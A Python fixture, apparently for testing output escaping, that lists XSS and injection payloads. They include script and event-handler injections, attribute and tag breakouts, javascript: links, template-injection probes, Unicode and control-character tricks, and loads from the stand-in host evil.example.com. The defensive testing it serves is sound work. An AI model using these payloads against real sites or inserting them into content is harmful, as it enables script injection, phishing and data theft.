"""What somebody might write to have a script run, an address opened or a page broken, wherever it is shown.

Every script that would run sets `__xss`, opens a dialog or asks another host for something.
"""

LEAK = "https://evil.example.com"
PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss=1;alert(1)</script>",
    "script of another host": f"<script src={LEAK}/x.js></script>",
    "handler": '<img src=x onerror="window.__xss=1;alert(2)">',
    "handler without quotes": "<details open ontoggle=window.__xss=1>x</details>",
    "svg": "<svg onload=window.__xss=1><animate onbegin=alert(3) attributeName=x dur=1s>",
    "out of an attribute": "\" autofocus onfocus=window.__xss=1 x=\"' onmouseover='alert(4)",
    "out of the title": "</title></textarea></style></script><script>window.__xss=1</script>",
    "comment": "--><!--><script>window.__xss=1</script><!--",
    "frame": f"<iframe srcdoc='<script>top.__xss=1</script>'></iframe><object data={LEAK}></object>",
    "form": f"<form action={LEAK}><button>Sign in again</button></form><base href={LEAK}/>",
    "style": f"<style>@import '{LEAK}/x.css';</style><link rel=stylesheet href={LEAK}/y.css>",
    "refresh": f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    "script link": "[click](javascript:window.__xss=1) <javascript:window.__xss=1|click>",
    "disguised link": "[click](java\tscript:alert(5)) [x](data:text/html,<script>alert(6)</script>)",
    "slack link": '<https://example.com/"onclick=window.__xss=1//|x> <!here|<b>here</b>>',
    "markdown image": f"![x]({LEAK}/pixel.png) `<b>` ```<script>window.__xss=1</script>```",
    "template": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7}",
    "format": "{name} {0.__class__} %s %(x)s",
    "entities": "&lt;script&gt;alert(7)&lt;/script&gt; &#60;img src=x onerror=alert(8)&#62;",
    "other quotation marks": "\uff1cscript\uff1ealert(9)\uff1c/script\uff1e \u02baonclick=alert(10)\u02ba",
    "right to left": "safe \u202egnp.txt \u2066evil\u2069 \u200b\u200d\ufeff invisible",
    "control characters": "<scr\x00ipt>alert(11)</scr\x00ipt> \x1b[31m \x08\x7f",
    "separators": "line\u2028window.__xss=1//\u2029end",
}
LONG = "<b>" + "w" * 3000 + "</b>" + " ﷽" * 200
